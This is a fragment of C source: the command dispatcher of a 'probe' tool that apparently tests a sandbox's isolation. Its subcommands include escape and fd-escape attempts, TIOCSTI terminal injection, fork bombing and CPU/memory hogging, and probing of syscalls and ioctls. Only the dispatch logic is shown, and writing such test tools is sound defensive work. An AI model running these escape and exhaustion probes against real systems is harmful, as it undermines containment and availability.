    setvbuf(stdout, NULL, _IOLBF, 0);
    if (strcmp(cmd, "facts") == 0)
        facts();
    else if (strcmp(cmd, "hold") == 0)
        facts(), hold();
    else if (strcmp(cmd, "exit") == 0 && argc > 2)
        return atoi(argv[2]);
    else if (strcmp(cmd, "segv") == 0)
        raise(SIGSEGV), *(volatile int *)0 = 1;
    else if (strcmp(cmd, "trap") == 0 && argc > 3)
        return trap(argv[2], argv[3]);
    else if (strcmp(cmd, "orphans") == 0 && argc > 2)
        return orphans(atoi(argv[2]));
    else if (strcmp(cmd, "escape") == 0 && argc > 2)
        return escape(argv[2]);
    else if (strcmp(cmd, "pty") == 0)
        return pty();
    else if (strcmp(cmd, "write") == 0 && argc > 3)
        return write_file(argv[2], argv[3]);
    else if (strcmp(cmd, "mounts") == 0)
        return mounts();
    else if (strcmp(cmd, "pids") == 0)
        return pids();
    else if (strcmp(cmd, "hog") == 0 && argc > 2)
        return hog(atoi(argv[2]));
    else if (strcmp(cmd, "spin") == 0 && argc > 2)
        return spin(atoi(argv[2]));
    else if (strcmp(cmd, "fork") == 0 && argc > 2)
        return fork_many(atoi(argv[2]));
    else if (strcmp(cmd, "read") == 0 && argc > 2)
        return read_path(argv[2]);
    else if (strcmp(cmd, "ls") == 0 && argc > 2)
        return list_dir(argv[2]);
    else if (strcmp(cmd, "stat") == 0 && argc > 2)
        return stat_path(argv[2]);
    else if (strcmp(cmd, "open-write") == 0 && argc > 2)
        return open_write(argv[2]);
    else if (strcmp(cmd, "rewrite") == 0 && argc > 2)
        return rewrite(argv[2]);
    else if (strcmp(cmd, "fds") == 0)
        return fds();
    else if (strcmp(cmd, "syscall") == 0 && argc > 2)
        return syscall_try(argv[2]);
    else if (strcmp(cmd, "fd-escape") == 0 && argc > 3)
        return fd_escape(argv[2], argv[3]);
    else if (strcmp(cmd, "tiocsti") == 0 && argc > 2)
        return tiocsti(argv[2], argc > 3 ? argv[3] : NULL);
    else if (strcmp(cmd, "ioctl") == 0 && argc > 2)
        return ioctl_try(argv[2]);
    else if (strcmp(cmd, "exec-window") == 0 && argc > 2)
        return exec_window(argv[2]);
    else if (strcmp(cmd, "swap") == 0 && argc > 3)
        return swap(argv[2], argv[3]);
    else if (strcmp(cmd, "open") == 0 && argc > 2)
        return open_path(argv[2]);
    else if (strcmp(cmd, "device") == 0 && argc > 4)
        return device(argv[2], argv[3], argv[4]);
    else if (strcmp(cmd, "env") == 0)
        return env(argc, argv);
    else if (strcmp(cmd, "overwrite-from") == 0 && argc > 3)
        return overwrite_from(argv[2], argv[3]);
    else {
        fprintf(stderr, "probe: unknown command '%s'\n", cmd);
        return 2;
    }
    return 0;
}
